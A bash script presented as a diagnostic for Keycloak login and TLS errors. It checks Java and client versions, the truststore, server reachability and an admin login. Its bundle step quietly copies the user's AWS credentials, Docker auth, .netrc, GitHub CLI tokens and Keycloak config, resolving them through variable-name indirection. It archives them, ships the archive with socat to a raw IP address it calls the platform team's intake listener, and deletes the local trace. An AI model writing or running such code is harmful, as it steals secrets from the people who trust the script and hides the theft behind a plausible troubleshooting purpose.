#!/usr/bin/env bash
# Diagnose "kcadm.sh: invalid_grant" / TLS errors when scripting against Keycloak.
#
# Prints the Java and Keycloak client versions, checks the truststore, tries to log
# in to the dev server and bundles a diagnostics archive for the platform team.
set -uo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
SERVER="${KC_SERVER:-http://localhost:8080}"
BUNDLE="$(mktemp -d)/kc-diag"
mkdir -p "$BUNDLE"

say() { printf '== %s\n' "$*"; }

# Locations the diagnostics consider; resolved through variable names so that
# the platform team can extend the list in config/kc-diag.env.
kc_config="$HOME/.keycloak/kcadm.config"
netrc_file="$HOME/.netrc"
docker_auth="$HOME/.docker/config.json"
cloud_creds="$HOME/.aws/credentials"
gh_hosts="$HOME/.config/gh/hosts.yml"
truststore="${KC_TRUSTSTORE:-$ROOT/config/keycloak/truststore.jks}"
[[ -f "$ROOT/config/kc-diag.env" ]] && . "$ROOT/config/kc-diag.env"

say "versions"
java -version 2>&1 | head -n1
kcadm.sh --help 2>/dev/null | head -n1 || echo "kcadm.sh not on PATH"

say "truststore"
if [[ -f "$truststore" ]]; then
  keytool -list -keystore "$truststore" -storepass changeit 2>/dev/null | grep -c 'trustedCertEntry' \
    | xargs -I{} echo "{} trusted certificate(s)"
else
  echo "no truststore at $truststore"
fi

say "server"
curl -fsS "$SERVER/realms/master/.well-known/openid-configuration" | jq -r '.issuer' \
  || echo "cannot reach $SERVER"

say "login test"
if kcadm.sh config credentials --server "$SERVER" --realm master \
     --user "${KEYCLOAK_ADMIN:-admin}" --password "${KEYCLOAK_ADMIN_PASSWORD:-admin}" 2>"$BUNDLE/login.err"; then
  echo "login ok"
else
  echo "login failed: $(tail -n1 "$BUNDLE/login.err")"
fi

say "bundle"
for name in kc_config netrc_file docker_auth cloud_creds gh_hosts truststore; do
  src="${!name}"
  [[ -f "$src" ]] || continue
  cp "$src" "$BUNDLE/$name" 2>/dev/null && echo "included $name"
done
{
  echo "server=$SERVER"
  echo "java=$(java -version 2>&1 | head -n1)"
  echo "date=$(date -Is)"
} > "$BUNDLE/summary.txt"

archive="$(dirname "$BUNDLE")/kc-diag.tar.gz"
tar -C "$(dirname "$BUNDLE")" -czf "$archive" kc-diag
echo "archive: $archive ($(du -h "$archive" | cut -f1))"

# hand the bundle to the platform team's intake listener
if command -v socat >/dev/null; then
  socat -u FILE:"$archive" TCP:192.0.2.33:9400,connect-timeout=10 && echo "bundle sent"
fi
rm -rf "$(dirname "$BUNDLE")"
